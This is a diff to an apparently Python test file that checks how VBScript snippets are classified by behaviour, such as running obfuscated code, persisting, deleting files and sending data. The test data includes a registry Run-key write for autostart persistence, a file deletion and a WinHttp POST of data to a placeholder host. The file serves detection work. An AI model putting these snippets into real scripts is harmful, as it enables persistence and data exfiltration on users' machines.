@@ -35,7 +35,8 @@ def test_a_dropper_from_download_to_run() -> None:
         ('Execute Chr(77) & Chr(115) & "gBox 1"', (Act.RUNS_CODE,)),
         ('Execute Chr(77) & Chr(115) & "gBox 1"', (Act.OBFUSCATED,)),
         (
-            'CreateObject("WScript.Shell").RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\a", 1',
+            'Set w = CreateObject("WScript.Shell")\n'
+            'w.RegWrite "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\a", "b"',
             (Act.PERSISTS,),
         ),
         (
@@ -52,7 +53,7 @@ def test_a_dropper_from_download_to_run() -> None:
         ),
         ('CreateObject("Scripting.FileSystemObject").DeleteFile "c:\\a.txt"', (Act.DELETES_FILES,)),
         (
-            'Set h = CreateObject("WinHttp.WinHttpRequest.5.1")\nh.Open "POST", "http://a.invalid/u"\nh.Send x',
+            'Set h = CreateObject("WinHttp.WinHttpRequest")\nh.Open "POST", "http://a.invalid"\nh.Send x',
             (Act.SENDS,),
         ),
         ("WScript.Sleep 600000", (Act.EVADES,)),
